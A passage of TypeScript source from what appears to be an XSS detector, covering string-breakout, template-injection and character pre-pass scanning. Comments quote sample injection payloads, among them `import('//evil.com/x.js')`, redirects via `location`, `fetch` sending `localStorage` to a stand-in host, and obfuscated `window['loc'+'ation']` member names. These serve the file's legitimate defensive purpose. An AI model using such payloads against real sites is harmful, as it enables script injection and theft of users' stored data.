  while (k < n && k - d0 < 24 && (s.charCodeAt(k) === 41 || s.charCodeAt(k) === 93)) k++;
  return numberJoin(s, k) && s.indexOf('//', k + 1) !== -1;
}

/**
 * After a number, what ends its statement and starts code: `;` glued to the number and to an
 * identifier (`1;import(…)`). A number context gives less away than a closed quote (`10 - open(file)
 * //later`, `2024-01-01 fetch() //` are notes), so neither a blank nor another operator is taken. O(1).
 */
function numberJoin(s: string, k: number): boolean {
  const c = s.charCodeAt(k + 1);
  return s.charCodeAt(k) === 59 && c < 128 && isIdentChar(c) && !isDigit(c);
}

function breakoutFrame(s: string): number {
  const n = s.length;
  let k = 0;
  while (k < n && k < 8 && s.charCodeAt(k) <= 32) k++;
  while (k < n && k < 10 && s.charCodeAt(k) === 92) k++;
  let q = s.charCodeAt(k);
  if (!isQuote(q)) {
    // A number context (`var id = <value>;`): `1;import('//evil.com/x.js')//`. Digits only (at most
    // 20, one optional leading minus), closed by a `//` comment only: no string was open to reopen.
    const d0 = k;
    const pq = prefixedQuote(s, k);
    if (q === 45) k++;
    while (k < n && k - d0 <= 20 && isDigit(s.charCodeAt(k))) k++;
    const digits = !(k === d0 || !isDigit(s.charCodeAt(k - 1)) || k - d0 > 20);
    if (digits) while (k < n && k - d0 < 24 && (s.charCodeAt(k) === 41 || s.charCodeAt(k) === 93)) k++;
    if (digits && numberJoin(s, k)) {
      q = -1;
    } else if (pq !== -1) {
      // Text of the string, then its closing quote (prefixedQuote).
      q = s.charCodeAt(pq);
      k = pq + 1;
    } else {
      return -1;
    }
  } else {
    k++;
  }
  let stop = Math.min(n, k + 8);
  for (let comments = 0; ; comments++) {
    while (k < stop) {
      const c = s.charCodeAt(k);
      if (c === 41 || c === 93 || c === 125 || c <= 32) k++;
      else break;
    }
    // `'/**/;import(…)//`: a comment is a blank to JavaScript (review rA: it passed). At most two,
    // each one native search.
    if (comments < 2 && k + 1 < n && s.charCodeAt(k) === 47 && s.charCodeAt(k + 1) === 42) {
      const close = s.indexOf('*/', k + 2);
      if (close === -1) return -1;
      k = close + 2;
      stop = Math.min(n, k + 8);
      continue;
    }
    break;
  }
  if (k >= n) return -1;
  // In a quoted context the string may also be closed by a conditional (`'?import(…):'`: the branch
  // runs when the text before the quote is not empty, `'?…:import(…)//` whatever it is) or by the
  // `in` / `instanceof` operators (`'in import(…)in'`: the operand is evaluated, and the import
  // requested, before the TypeError). `??` is read as `?` (a string is never nullish, so `'??x??'`
  // never runs x, but nobody writes it for another reason). (Session 20: all three passed.)
  const op = s.charCodeAt(k);
  let word = 0;
  if (q !== -1 && op === 105 && s.charCodeAt(k + 1) === 110) {
    word = s.startsWith('instanceof', k) ? 10 : 2;
    const after = s.charCodeAt(k + word);
    if (!(after === 32 || after === 9 || after === 40 || after === 91 || after === 47)) return -1;
  } else if (!isJoinOp(op) && !(q !== -1 && op === 63)) return -1;
  const head = word !== 0 ? k + word : k + 1;
  let e = n;
  while (e > head && s.charCodeAt(e - 1) <= 32) e--;
  if (e <= head) return -1;
  // A conditional has its `:` (`"?page=2&q=import(x)//"` is no code: one native search).
  if (op === 63 && s.charCodeAt(head) !== 63 && s.indexOf(':', head) === -1) return -1;
  // Reopened string: `…+'`, `…;var a='`, `…('`, and after the head's own operator (`…:'`, `…in'`).
  if (q !== -1 && s.charCodeAt(e - 1) === q) {
    let j = e - 2;
    while (j >= head && s.charCodeAt(j) <= 32 && e - j < 8) j--;
    const c = j >= head ? s.charCodeAt(j) : -1;
    const reopen =
      c !== -1 &&
      (isJoinOp(c) ||
        c === 61 ||
        c === 40 ||
        (op === 63 && (c === 58 || c === 63)) ||
        (word !== 0 && j - word + 1 > head && s.startsWith(word === 2 ? 'in' : 'instanceof', j - word + 1) && !isIdentChar(s.charCodeAt(j - word))));
    if (reopen) {
      boTail = word !== 0 && !isJoinOp(c) && c !== 61 && c !== 40 ? j - word + 1 : j;
      boStmtEnd = boTail;
      return head;
    }
  }
  // A `//` comment that runs to the end of the value (no line break after it).
  // (Not a URL's `://`: a JSON fragment `", "u": "http://x/` closes and reopens no code.)
  // Or an HTML-like `<!--` comment, which a classic script reads as `//` (`';fetch('https://…'+
  // localStorage.t)<!--`: passed, session 20). Two native searches back from the end.
  let t = s.lastIndexOf('//', e - 1);
  if (t < head || s.charCodeAt(t - 1) === 58) t = -1;
  const h = s.lastIndexOf('<!--', e - 1);
  if (h >= head && h > t) t = h;
  if (t === -1) return -1;
  for (let j = t + 2; j < e; j++) {
    const c = s.charCodeAt(j);
    if (c === 10 || c === 13 || c === 0x2028 || c === 0x2029) return -1;
  }
  boTail = t;
  boStmtEnd = q === -1 ? statementEnd(s, head, t) : t;
  return head;
}

/**
 * Where the first statement of a number-context frame ends: its first `;` or line break (or `b`).
 * A semicolon-separated row (`1;Bakery Rossi;open (7-19);… // closed Sundays`, a CSV export with a
 * numeric first column, one row or many) has the number context's shape; its capability-like words
 * sit in later fields. The injected code is the first statement after the number (`1;import(…)//`),
 * so names and brackets count only there (review rB). O(b - head), once per value.
 */
function statementEnd(s: string, head: number, b: number): number {
  for (let j = head; j < b; j++) {
    const c = s.charCodeAt(j);
    if (c === 59 || c === 10 || c === 13 || c === 0x2028 || c === 0x2029) return j;
  }
  return b;
}

/**
 * `';import('//evil.com/x.js')//`, `';location='//evil.com'//`, `'+fetch('//x?'+localStorage.t)+'`:
 * a complete breakout (breakoutFrame) whose code names a browser capability (BO_*). Prose and code
 * snippets do not start by closing a string with an operator and end with a comment or a reopened
 * string. One pass over the identifiers between head and tail; each compared only by its first
 * character's short list (memberIn).
 */
function scanBreakoutStatement(s: string, best: Best): boolean {
  const a = breakoutFrame(s);
  if (a === -1) return false;
  const b = boTail;
  const stmt = boStmtEnd;
  boCloseFrom = -1;
  const next = BO_TRIE.next;
  const kinds = BO_TRIE.kind;
  let k = a;
  // `st` walks the trie along the current identifier (-1: not a BO_* prefix, or not at an identifier
  // start); one table read per identifier character, nothing per other character but the test.
  let st = -1;
  let start = a;
  let prevId = a > 0 && isIdentChar(s.charCodeAt(a - 1));
  for (; k <= b; k++) {
    const c = k < b ? s.charCodeAt(k) : 32;
    const id = c < 128 && (IDENT_ASCII[c] as number) !== 0;
    if (id) {
      if (!prevId) {
        st = 0;
        start = k;
      }
      if (st !== -1) {
        const nx = next[st * 128 + c] as number;
        st = nx === 0 ? -1 : nx;
      }
      prevId = true;
      continue;
    }
    if (prevId && st > 0 && start < stmt && kinds[st] !== 0 && judgeBreakoutName(s, start, k, b, kinds[st] as number) && codePosition(s, start, a)) {
      return best.add('js-breakout', 'high', 'A string breakout into code that loads, sends or redirects (import, fetch, storage, location, …).');
    }
    // (A non-ASCII character ends the identifier, as isIdentChar reads them elsewhere in this file:
    // `éfetch(` is judged as `fetch(`, which only errs towards reporting.)
    prevId = false;
    st = -1;
  }
  if (bracketBreakoutName(s, a, b, stmt)) {
    return best.add('js-breakout', 'high', 'A string breakout into code that sets or reads a capability by a built name (window[\'loc\'+\'ation\']=…).');
  }
  return false;
}

/** ASCII identifier characters ([A-Za-z0-9_$]) as a table. */
const IDENT_ASCII = ((): Uint8Array => {
  const t = new Uint8Array(128);
  for (let c = 0; c < 128; c++) if (isIdentChar(c)) t[c] = 1;
  return t;
})();

/** Keywords after which an expression starts (`new WebSocket(`, `return fetch(`, `void import(`). */
const BO_KEYWORDS: readonly string[] = ['new', 'return', 'void', 'typeof', 'await', 'throw', 'yield', 'case', 'delete', 'in', 'of', 'else', 'do', 'instanceof'];

/**
 * Whether the BO_* name at `a` stands where code can call or name it, by what precedes it (`head`:
 * the frame's head). Not after a word and a blank unless the word is a keyword (`call alert()`,
 * `use fetch()`, `fixed write() bug`: prose; in code a word after a word is a syntax error), nor after
 * a quote (`"-1","write(x)","-"`: inside a string, or a syntax error). Without it, quoted markdown
 * or prose with an operator at both ends (`"- Don't call alert() in tests -"`, `"** Note: call open()
 * first **"`) was a high breakout. O(1): at most 4 blanks and an 11-character word read back, compared in place.
 */
function codePosition(s: string, a: number, head: number): boolean {
  let p = a - 1;
  while (p >= head && a - p <= 4 && (s.charCodeAt(p) === 32 || s.charCodeAt(p) === 9)) p--;
  if (p < head) return true;
  const c = s.charCodeAt(p);
  if (isQuote(c)) return false;
  if (c >= 128 || (IDENT_ASCII[c] as number) === 0) return true;
  let q = p;
  while (q >= head && p - q < 11 && s.charCodeAt(q) < 128 && (IDENT_ASCII[s.charCodeAt(q)] as number) !== 0) q--;
  const len = p - q;
  if (len >= 11) return false;
  // (startsWith at the word, not a slice and a Set: no string made per rejected name.)
  for (let i = 0; i < BO_KEYWORDS.length; i++) {
    const w = BO_KEYWORDS[i]!;
    if (w.length === len && s.startsWith(w, q + 1)) return true;
  }
  return false;
}

/**
 * The first `*\/` at or after `from` in the value scanBreakoutStatement reads (-1: none). The scan asks
 * with increasing `from`, so one found at or after it answers again: one native search per comment,
 * not one per name (`';location/*location/*…` would be quadratic). Reset per value (boCloseFrom -1).
 */
let boClose = -1;
let boCloseFrom = -1;
function boCommentEnd(s: string, from: number): number {
  if (boCloseFrom !== -1 && boCloseFrom <= from && (boClose === -1 || boClose >= from)) return boClose;
  boClose = s.indexOf('*/', from);
  boCloseFrom = from;
  return boClose;
}

/** A BO_* name of `kind` ended at `e`: does what follows make it the capability it names? O(1). */
function judgeBreakoutName(s: string, a: number, e: number, b: number, kind: number): boolean {
  let f = e;
  while (f < b && f - e < 4 && (s.charCodeAt(f) === 32 || s.charCodeAt(f) === 9)) f++;
  // `import/**/(…)`, `location/**/=…`: one comment after the name is a blank too (review rA: both
  // passed). Its end comes from boCommentEnd, whose cached search keeps the scan linear.
  if (f + 1 < b && s.charCodeAt(f) === 47 && s.charCodeAt(f + 1) === 42) {
    const close = boCommentEnd(s, f + 2);
    if (close !== -1 && close + 2 <= b) {
      f = close + 2;
      const g = f;
      while (f < b && f - g < 4 && (s.charCodeAt(f) === 32 || s.charCodeAt(f) === 9)) f++;
    }
  }
  const d = f < b ? s.charCodeAt(f) : -1;
  const assign = d === 61 && s.charCodeAt(f + 1) !== 61;
  return (
    ((d === 40 || d === 96) && (kind & BO_CALL_K) !== 0) ||
    (isRefFollower(d) && (kind & BO_REF_K) !== 0) ||
    ((assign || (d === 46 && f === e)) && (kind & BO_SET_K) !== 0) ||
    (assign && a > 0 && s.charCodeAt(a - 1) === 46 && (kind & BO_MEMBER_SET_K) !== 0) ||
    ((d === 44 || d === 41) && (kind & BO_VALUE_K) !== 0 && argStart(s, a))
  );
}

/** `(` or `,` before `a`, past up to 4 blanks: the name at `a` starts an argument. O(1). */
function argStart(s: string, a: number): boolean {
  let p = a - 1;
  while (p >= 0 && a - p <= 4 && (s.charCodeAt(p) === 32 || s.charCodeAt(p) === 9)) p--;
  const c = p >= 0 ? s.charCodeAt(p) : -1;
  return c === 40 || c === 44;
}

/** Roots whose bracket members a breakout sets or reads by a built name (`window['loc'+'ation']=`). */
const BO_ROOTS = new Set(['window', 'self', 'top', 'parent', 'frames', 'globalThis', 'document', 'this']);

/**
 * `';window['loc'+'ation']='//evil.com'//`, `';x['inner'+'HTML']=…//`: inside a breakout frame
 * [a, b), a bracket member whose name is quoted pieces joined by `+` spells a BO_* name, judged as the
 * dotted member would be (a BO_SET or BO_REF name on a global root or document, a BO_MEMBER_SET name
 * assigned on any object, a BO_CALL name called). Each `[` is read once, its name at most 96
 * characters (no escapes: a backslash gives up): linear in the frame.
 */
function bracketBreakoutName(s: string, a: number, b: number, stmt: number): boolean {
  const next = BO_TRIE.next;
  for (let o = s.indexOf('[', a); o !== -1 && o < stmt; o = s.indexOf('[', o + 1)) {
    let k = o + 1;
    const lim = Math.min(b, o + 97);
    let st = 0;
    let close = -1;
    let pieces = 0;
    while (k < lim && st !== -1) {
      const c = s.charCodeAt(k);
      if (c === 32 || c === 9) {
        k++;
        continue;
      }
      if (c === 93 && pieces > 0) {
        close = k;
        break;
      }
      if (c === 43 && pieces > 0) {
        k++;
        continue;
      }
      if (c !== 39 && c !== 34 && c !== 96) break;
      // One quoted piece, walked along the trie.
      let j = k + 1;
      while (j < lim && s.charCodeAt(j) !== c && st !== -1) {
        const d = s.charCodeAt(j);
        const nx = d < 128 && d !== 92 ? (next[st * 128 + d] as number) : 0;
        st = nx === 0 ? -1 : nx;
        j++;
      }
      if (j >= lim || st === -1) break;
      pieces++;
      k = j + 1;
    }
    if (close === -1 || st <= 0) continue;
    const kind = BO_TRIE.kind[st] as number;
    if (kind === 0) continue;
    let r = o;
    while (r > a && o - r < 12 && isIdentChar(s.charCodeAt(r - 1))) r--;
    const rooted = r < o && BO_ROOTS.has(s.slice(r, o));
    let f = close + 1;
    while (f < b && f - close < 5 && (s.charCodeAt(f) === 32 || s.charCodeAt(f) === 9)) f++;
    const d = f < b ? s.charCodeAt(f) : -1;
    const assign = d === 61 && s.charCodeAt(f + 1) !== 61;
    if (
      ((d === 40 || d === 96) && (kind & BO_CALL_K) !== 0) ||
      (rooted && isRefFollower(d) && (kind & BO_REF_K) !== 0) ||
      (rooted && (assign || d === 46) && (kind & BO_SET_K) !== 0) ||
      (assign && (kind & BO_MEMBER_SET_K) !== 0)
    ) {
      return true;
    }
  }
  return false;
}

/** AngularJS (and other client-side template) expressions that reach the Function constructor. */
function scanTemplates(s: string, best: Best): boolean {
  let i = s.indexOf('{{');
  while (i !== -1) {
    const close = s.indexOf('}}', i + 2);
    const end = close === -1 ? s.length : close;
    const inner = s.slice(i + 2, Math.min(end, i + 2 + 4096));
    if (inner.includes('constructor') || inner.includes('$eval') || inner.includes('__proto__') || inner.includes('$parse')) {
      return best.add('template-injection', 'high', 'A client-side template expression that reaches the Function constructor.');
    }
    let call = false;
    for (let k = 0; k < inner.length; k++) if (inner.charCodeAt(k) === 40) call = true;
    if (call) best.add('template-injection', 'medium', 'A client-side template expression with a call.');
    if (close === -1) break;
    i = s.indexOf('{{', close + 2);
  }
  return false;
}

// ---------------------------------------------------------------------------------------------------

const F_LT = 1;
const F_COLON = 4;
const F_PAREN = 8;
const F_BRACE = 16;
const F_EQ = 32;
const F_AMP = 64;
const F_FULLWIDTH_LT = 128;
const F_BACKTICK = 256;

// Which outside-tag scans can fire at all. Each is a necessary condition for any finding (of any
// confidence) of its scan, checked with a few character loads at the character that triggers it, so
// values with `(`, `:` or `=` in ordinary roles (`Mozilla/5.0 (X11; …`, `https://host/p?x=1`,
// `Root=1-…`, `09:30:00`) skip the scans instead of running them to find nothing.
/** scanSchemes: a scheme name before a `:`, or characters the scheme reader skips or decodes. */
const N_SCHEME = 1;
/** scanEventAttributes: `on` + letters (+ spaces) before a `=`. */
const N_EVENT = 2;
/** scanCss: `e`/`u` after a `:` (expression, url), or CSS escapes, entities, comments. */
const N_CSS = 4;
/** scanJsSinks: a sink name before a `(` or backtick, or right after a `(` (callback). */
const N_SINK = 8;
/** scanJsIndirect: a `[` or a `${`. */
const N_INDIRECT = 16;
/** scanTemplates: `{{`. */
const N_TPL = 32;
/** scanJsEntities: `&{`. */
const N_JSENT = 64;
/** scanDom: `document.` or `window.`. */
const N_DOM = 128;
/** scanSchemes, with a raw `:`: an `&` (entities can spell the scheme's letters). */
const N_AMP = 256;
/**
 * scanSchemes without a raw `:`: an `&` that may read as one (`&#58;`, `&#x3A;`, `&colon;`). Every
 * scheme it reports ends in a colon the reader saw, raw or decoded; a value with neither (1 MB of
 * `&#38;`) has no scheme to find.
 */
const N_COLON_REF = 512;
/**
 * scanHtmlTags: a `<` before a letter (a start tag), or `</` and a letter that is not an end tag the
 * scan passes over (shortEndTag with CONTEXT_MIN). Without one the scan visits no tag, and is skipped
 * (1 MB of `</a>x` read each tag twice, here and there: ~3 µs/KB).
 */
const N_TAGS = 1024;
/** scanTemplateCode: a `${`. (N_INDIRECT is also set by any `[`, as in every JSON array.) */
const N_TPL_CODE = 2048;
const N_ALL = 4095;

/** Can scanSchemes find anything? A colon (raw, or an `&` that may decode to one) and a trigger. */
function schemesMayFire(f: number, need: number): boolean {
  if (f & F_COLON) return (need & (N_SCHEME | N_AMP)) !== 0;
  return (f & F_AMP) !== 0 && (need & N_COLON_REF) !== 0;
}

/** Characters the pre-pass looks at (the rest cost one table load): their F_* bit, or 512. */
/**
 * detectXss's first pass, per UTF-16 code unit: the F_* bit a character sets (0 for most), 512 for
 * the other characters some check looks around. Above ASCII only `＜` (U+FF1C) and `¼` (0xBC) are
 * not 0 (F_FULLWIDTH_LT): one load and one branch a character for every other one (the pass tested
 * `>= 128` first, then the two: 1 MB of `é.é ` ~3.4 µs/KB, `ａ．ｂ ` ~2.7).
 */
const XCHAR = new Uint16Array(65536);
const X_SHIFT = 10;
const X_BACKTICK = 1;
const X_PAREN = 2;
const X_COLON = 3;
const X_EQ = 4;
const X_AMP = 5;
const X_BRACE = 6;
const X_BRACKET = 7;
const X_DOLLAR = 8;
const X_BACKSLASH = 9;
const X_SLASH = 10;
const X_LT = 11;
/** `]` (`]]>`), tab, LF, CR: the scheme reader's. */
const X_SCHEME = 12;
const X_PLUS = 13;
const X_DOT = 14;
(() => {
  XCHAR[0xff1c] = F_FULLWIDTH_LT;
  XCHAR[0xbc] = F_FULLWIDTH_LT;
  // The rest with their case in prePass's switch (X_*), above the F_* bits: a switch over small dense
  // numbers is a jump table, over the character codes a search (~0.3 µs/KB on dense punctuation).
  const set = (ch: string, bit: number, id: number): void => {
    XCHAR[ch.charCodeAt(0)] = bit | (id << X_SHIFT);
  };
  set('`', F_BACKTICK, X_BACKTICK);
  set('(', F_PAREN, X_PAREN);
  set(':', F_COLON, X_COLON);
  set('=', F_EQ, X_EQ);
  set('&', F_AMP, X_AMP);
  set('{', F_BRACE, X_BRACE);
  set('[', 512, X_BRACKET);
  set('$', 512, X_DOLLAR);
  set('\\', 512, X_BACKSLASH);
  set('/', 512, X_SLASH);
  set('<', F_LT, X_LT);
  for (const ch of ']\t\n\r') set(ch, 512, X_SCHEME);
  set('+', 512, X_PLUS);
  set('.', 512, X_DOT);
})();

const SCHEME_NAMES = ['javascript', 'vbscript', 'livescript', 'mocha', 'data'];
const SINK_NAMES = [...SINKS];

/** A script scheme name (any case) ends at `end` (the index of a `:`). */
function schemeNameBefore(s: string, end: number): boolean {
  // Compared from the colon back: the last letters tell the names apart (`a: b`, `data`, `beta:`
  // fail at their second or third load; from the front, each name cost a load at its own length).
  for (let t = 0; t < SCHEME_NAMES.length; t++) {
    const name = SCHEME_NAMES[t]!;
    const a = end - name.length;
    if (a < 0) continue;
    let k = name.length - 1;
    while (k >= 0 && lower(s.charCodeAt(a + k)) === name.charCodeAt(k)) k--;
    if (k < 0) return true;
  }
  return false;
}

/** A sink name ends at `end`, after skipping up to 8 blanks or backslashes back from it (scanJsSinks' call site). */
function sinkBefore(s: string, end: number): boolean {
  let e = end;
  while (e > 0 && end - e < 8 && (s.charCodeAt(e - 1) === 32 || s.charCodeAt(e - 1) === 9 || s.charCodeAt(e - 1) === 92)) e--;
  const last = s.charCodeAt(e - 1);
  // Every sink name ends in `t`, `m` or `l`.
  if (last !== 116 && last !== 109 && last !== 108) return false;
  for (const name of SINK_NAMES) if (matchAt(s, e - name.length, name)) return true;
  return false;
}

/** The code before a call character can end a sink name (`t`, `m`, `l`) or be a blank or backslash after one. */
function mayEndSink(c: number): boolean {
  return c === 116 || c === 109 || c === 108 || c === 32 || c === 9 || c === 92;
}

/** A sink name starts at `p` (a callback: `find(alert)`). */
function sinkAt(s: string, p: number): boolean {
  const c = s.charCodeAt(p);
  // Every sink name starts with `a`, `p`, `c`, `e` or `s`, and goes on with `l`, `r`, `o`, `v`, `x` or
  // `e` (1 MB of `a(` compared the seven names at every `(`: ~20 µs/KB).
  if (c !== 97 && c !== 112 && c !== 99 && c !== 101 && c !== 115) return false;
  const c2 = p + 1 < s.length ? s.charCodeAt(p + 1) : -1;
  if (c2 !== 108 && c2 !== 114 && c2 !== 111 && c2 !== 118 && c2 !== 120 && c2 !== 101) return false;
  for (const name of SINK_NAMES) if (matchAt(s, p, name)) return true;
  return false;
}

/** `on` + at least two letters, then up to 16 spaces, end at `eq` (the index of a `=`). */
function eventBefore(s: string, eq: number): boolean {
  let k = eq;
  while (k > 0 && eq - k < 16) {
    const c = s.charCodeAt(k - 1);
    if (isHtmlSpace(c) || c === 11 || c === 0) k--;
    else break;
  }
  let a = k;
  while (a > 0 && k - a <= 48) {
    const c = s.charCodeAt(a - 1) | 0x20;
    if (c >= 97 && c <= 122) a--;
    else break;
  }
  return k - a >= 4 && k - a <= 48 && (s.charCodeAt(a) | 0x20) === 111 && (s.charCodeAt(a + 1) | 0x20) === 110;
}

/** After a `:` at `p - 1`: the first character that is not a control or space is `e` or `u`. */
function cssWordAfter(s: string, p: number): boolean {
  while (p < s.length && s.charCodeAt(p) <= 32) p++;
  const c = s.charCodeAt(p) | 0x20;
  return c === 101 || c === 117;
}

/**
 * The whole value is one numeric character reference to `<` (`&#60;`, `&#x3C`, `&#X00003c;`, padded
 * or not): a scanner probing whether the application decodes entities before it echoes. Encoders
 * write `&lt;`, and a lone `<` has no other reason to be escaped by hand, so the named form and
 * text around the reference ("a &#60; b") pass.
 */
function loneEncodedLt(v: string): boolean {
  if (v.length < 4 || v.length > 16 || v.charCodeAt(0) !== 38 || v.charCodeAt(1) !== 35) return false;
  const e = entityAt(v, 0);
  return e !== undefined && e[0] === 60 && e[1] === v.length;
}

/**
 * What prePass found (detectXss reads them right after the call; nothing else sets them). Module
 * variables, not an object: no allocation per value.
 */
let pF = 0;
let pNeed = 0;
let pPlus = false;
let pFirstNameLt = -1;
let pRoots: number[] | undefined;

/**
 * detectXss's first pass (below), in a function of its own: inlined in detectXss, a very large
 * function, the same loop ran ~0.3-0.5 µs/KB slower on dense punctuation (`a: b&`, `x:/&0`, `\x(`,
 * 64 KB, best of 12).
 *
 * Every character is loaded once, one ahead: the loop carries the characters before and after the
 * current one in locals, and the checks at a trigger character read them there. Each check is
 * first a test of a neighbour (the character before a `:`, `(`, backtick, `=` or `.`; the one after a
 * `:`, `(`, `&`, `{`, `$`, `/` or `<`), and only a neighbour that passes calls the reader that looks
 * further. Dense punctuation paid a reload of both neighbours (a charCodeAt each, with its bounds
 * test) at every trigger: `a: b&` ~5.1 µs/KB at 64 KB, `\x(` ~4.5, `'::'` ~3.7, against ~2.2 on
 * prose. (The loop stops one short of the end, so the load ahead needs no bounds test; the last
 * character goes through lastChar. A conditional load ahead, `i + 1 < n ? … : -1`, together with a
 * third carried character read ~0.6-0.9 µs/KB slower, prose included; carrying the character two
 * back as well, for the colon's second test, read prose at ~4.3 µs/KB against ~2.5: the loop has
 * no register to spare. Keep its locals as they are.)
 */
function prePass(value: string): void {
  let f = 0;
  let need = 0;
  let plus = false;
  let firstNameLt = -1;
  let roots: number[] | undefined;
  const n = value.length;
  if (n === 0) return setPass(0, 0, false, -1, undefined);
  const last = n - 1;
  let prev = -1;
  let c = value.charCodeAt(0);
  for (let i = 0; i < last; i++) {
    const next = value.charCodeAt(i + 1);
    // Full-width `＜` (NFKC) and `¼` (0xBC with the high bit stripped by a 7-bit charset) act as `<`:
    // they set F_FULLWIDTH_LT here and meet no case below. One load and one branch a character,
    // whatever the script.
    const x = XCHAR[c] as number;
    if (x !== 0) {
      f |= x & 511;
      switch (x >> X_SHIFT) {
        case X_BACKTICK: // `
          if (!(need & N_SINK) && mayEndSink(prev) && sinkBefore(value, i)) need |= N_SINK;
          break;
        case X_PAREN:
          // (: a sink name before it (after blanks), or right after it (a callback).
          if (need & N_SINK) break;
          if ((mayEndSink(prev) && sinkBefore(value, i)) || ((next === 97 || next === 112 || next === 99 || next === 101 || next === 115) && sinkAt(value, i + 1))) {
            need |= N_SINK;
          }
          break;
        case X_COLON: {
          // :
          // Every scheme name ends in `t` or `a` (either case): the names are compared only after one
          // (text dense with colons, `é:é `, compared all five at each: ~10-20 µs/KB at 1 MB). And
          // before the `t` a `p`, before the `a` an `h` or a `t`: `javascript`, `mocha`, `data` (1 MB
          // of `a: b&` called schemeNameBefore at every colon: ~4 µs/KB).
          // In a colon run (`::::`, decoded `&#58;` runs) only the first colon has a letter before it
          // and only the last a word after it: the others fail both neighbour tests.
          if (!(need & N_SCHEME)) {
            const b = prev | 0x20;
            if (b === 116 || b === 97) {
              const b2 = i > 1 ? value.charCodeAt(i - 2) | 0x20 : 0;
              if ((b === 116 ? b2 === 112 : b2 === 104 || b2 === 116) && schemeNameBefore(value, i)) need |= N_SCHEME;
            }
          }
          if (next === 58) {
            // On to the run's last colon with one load a colon (a turn of this loop each read 1 MB of
            // `:` ~2.5 µs/KB dearer): the next turn reads it as a colon after a colon, with its word
            // after it, or lastChar does.
            let j = i + 1;
            while (j < last && value.charCodeAt(j + 1) === 58) j++;
            i = j - 1;
            break;
          }
          if (!(need & N_CSS)) {
            // (cssWordAfter(i + 1) answers at once for an `e` or `u` and skips a blank already read.)
            const nl = next | 0x20;
            if (nl === 101 || nl === 117 || (next <= 32 && cssWordAfter(value, i + 2))) need |= N_CSS;
          }
          break;
        }
        case X_EQ: {
          // =: eventBefore needs a letter or a blank right before it (an HTML space, VT, NUL).
          const pl = prev | 0x20;
          if (!(need & N_EVENT) && ((pl >= 97 && pl <= 122) || prev <= 32) && eventBefore(value, i)) need |= N_EVENT;
          break;
        }
        case X_AMP: {
          // &: entities can spell schemes and CSS keywords; `&{` is a JavaScript entity. The scheme and
          // CSS readers decode only what entityAt decodes: `&#…` and names starting `t`, `n` or `c`.
          // Any other `&` (`&:`, `& `, `&&`, `&b`) is a literal there and gates neither scan: one load
          // spares scanSchemes and scanCss on text with colons and ampersands (1 MB of `a: b&`, `::::&`).
          const ql = next | 0x20;
          if (next === 35 || ql === 116 || ql === 110 || ql === 99) need |= N_AMP | N_CSS;
          if (next === 123) need |= N_JSENT;
          else if (!(need & N_COLON_REF)) {
            // A superset of what entityAt decodes to `:`: the numeric value exactly, `colon;` by its
            // `c`. refIsColon is called only after a first digit `0` or `5` or an `x` (one load): a
            // call per reference cost ~2 µs/KB on 1 MB of `&#`, ~1 on `&#38;`.
            if (next === 35) {
              const d = i + 2 < n ? value.charCodeAt(i + 2) : -1;
              if ((d === 48 || d === 53 || (d | 0x20) === 120) && refIsColon(value, i)) need |= N_COLON_REF;
            } else if (ql === 99) need |= N_COLON_REF;
          }
          break;
        }
        case X_BRACE: // {
          if (next === 123) need |= N_TPL;
          // `${` before a blank or a letter some TPL_TRIE name starts with: with the characters the
          // loop holds and one table load (`${${`, `${1}`, `${x}` leave scanTemplateCode unrun).
          else if (prev === 36 && (next > 64 || next <= 32) && TPL_FIRST[next] === 1) need |= N_TPL_CODE;
          break;
        case X_BRACKET: // [
          need |= N_INDIRECT;
          break;
        case X_DOLLAR: // $
          if (next === 123) need |= N_INDIRECT;
          break;
        case X_BACKSLASH: // backslash: CSS escapes
          need |= N_CSS;
          break;
        case X_SLASH: // `/*`: CSS comments
          if (next === 42) need |= N_CSS;
          break;
        case X_LT: // <: `<!--` and CDATA seams inside a scheme; the first `<` that may start a judged name
          need |= N_SCHEME;
          // (ltMayStartName is false unless the next character is `?`, `!`, a blank or NUL, or a name
          // character: `</`, `<<`, `<'` are passed with the load already made.)
          if (firstNameLt === -1 && (next <= 32 || next === 63 || next === 33 || isNameChar(next)) && ltMayStartName(value, i)) firstNameLt = i;
          if (!(need & N_TAGS)) {
            if (isAsciiLetter(next)) need |= N_TAGS;
            else if (next === 47) {
              // (`</a>`, a letter and `>`, is passed over without a call: dense end tags are most often that.)
              const a = i + 3 < n ? value.charCodeAt(i + 2) : -1;
              if (!(isAsciiLetter(a) && value.charCodeAt(i + 3) === 62) && endTagVisited(value, i + 2)) need |= N_TAGS;
            }
          }
          break;
        case X_SCHEME: // `]` (`]]>`), tab, LF, CR: the URL parser drops the last three anywhere in a scheme
          need |= N_SCHEME;
          break;
        case X_PLUS: // +: UTF-7 (below)
          plus = true;
          break;
        case X_DOT: {
          // .: a `document`/`window` root before it; scanDom visits exactly these. Most dots end a
          // sentence or split a host name: one test rules them out.
          const root = prev === 116 || prev === 119 ? domRootBefore(value, i) : -1;
          if (root !== -1) {
            need |= N_DOM;
            (roots ??= []).push(root);
          }
          break;
        }
        default:
          break;
      }
    }
    prev = c;
    c = next;
  }
  // The last character: nothing after it (what the checks above read as the end of the value).
  const x = XCHAR[c] as number;
  if (x !== 0) {
    f |= x & 511;
    need |= lastChar(value, last, c, prev, need);
    if (c === 43) plus = true;
    if (c === 46 && prev !== -1) {
      const root = prev === 116 || prev === 119 ? domRootBefore(value, last) : -1;
      if (root !== -1) {
        need |= N_DOM;
        (roots ??= []).push(root);
      }
    }
  }
  setPass(f, need, plus, firstNameLt, roots);
}

/**
 * prePass's checks at the last character `c` (at `i`, after `prev`), where no character follows:
 * the need bits they add (`+` and `.` are prePass's own). Kept apart so that the loop's load ahead
 * is never out of bounds.
 */
function lastChar(value: string, i: number, c: number, prev: number, need: number): number {
  switch (c) {
    case 96: // `
    case 40: // (: a sink name before it (no callback after the end)
      return !(need & N_SINK) && mayEndSink(prev) && sinkBefore(value, i) ? N_SINK : 0;
    case 58: {
      // :: a scheme name before it (no CSS word after the end)
      if (need & N_SCHEME) return 0;
      const b = prev | 0x20;
      if (b !== 116 && b !== 97) return 0;
      const b2 = i > 1 ? value.charCodeAt(i - 2) | 0x20 : 0;
      return (b === 116 ? b2 === 112 : b2 === 104 || b2 === 116) && schemeNameBefore(value, i) ? N_SCHEME : 0;
    }
    case 61: // =
      return !(need & N_EVENT) && eventBefore(value, i) ? N_EVENT : 0;
    case 91: // [
      return N_INDIRECT;
    case 92: // backslash
      return N_CSS;
    case 60: // <
    case 93: // ]
    case 9:
    case 10:
    case 13:
      return N_SCHEME;
    default:
      return 0;
  }
}

